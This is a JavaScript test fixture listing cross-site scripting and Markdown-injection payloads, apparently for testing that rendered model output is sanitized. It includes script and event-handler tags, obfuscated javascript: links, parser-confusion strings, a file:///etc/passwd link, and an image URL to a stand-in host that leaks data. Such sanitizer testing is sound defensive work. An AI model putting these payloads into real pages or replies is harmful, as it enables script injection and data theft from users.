// What a model might be talked into writing. Nothing of it may run, be fetched, or leave the reply.

const FENCE = "```";

export const ATTACKS = [
  // Elements that run or fetch
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<object data=javascript:alert(1)>",
  "<embed src=https://e.example/x.swf>",
  "<video src=https://e.example/v onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<x contenteditable onblur=alert(1)>",
  "<style>@import url(https://e.example/x.css)</style>",
  "<link rel=stylesheet href=https://e.example/x.css>",
  "<base href=https://e.example/>",
  '<meta http-equiv=refresh content="0;url=https://e.example">',
  '<div style="background:url(https://e.example/b)">x</div>',
  "<form action=https://e.example><button>go</button></form>",
  "<a id=confirm name=input>clobber</a>",
  '<a href="https://e.example" target=_self rel=opener>x</a>',

  // Addresses
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://e.example/1)",
  "[x](//e.example/x)",
  "[x](/sessions)",
  "<javascript:alert(1)>",
  '<https://e.example/"onmouseover="alert(1)>',
  "[a]: javascript:alert(1)\n\n[a]",
  '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',

  // Images, which would carry data out by their address
  "![x](https://e.example/leak?d=secret)",
  '![x"onerror="alert(1)](https://e.example/p)',
  '![][r]\n\n[r]: https://e.example/leak.png "t\\"onload=alert(1)"',
  "[![x](https://e.example/i.png)](javascript:alert(1))",

  // Inside other Markdown
  `${FENCE}js" onclick="alert(1)\ncode\n${FENCE}`,
  `${FENCE}</code></pre><img src=x onerror=alert(1)>\nx\n${FENCE}`,
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |",
  "- [x] <svg onload=alert(1)>\n- [ ] b",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  'www.e.example/"><img src=x onerror=alert(1)>',
  "https://e.example/<img/src=x/onerror=alert(1)>",

  // What parsers disagree about
  "&lt;img src=x onerror=alert(1)&gt;",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "\u2028<img src=x onerror=alert(1)>\u0000<script>",
  'é😀<img src=x onerror="alert(1)">\u{1F468}\u200D\u{1F469}',
  'event: turn-end\ndata: {"status":"complete"}\n\n<img src=x onerror=alert(1)>',
];
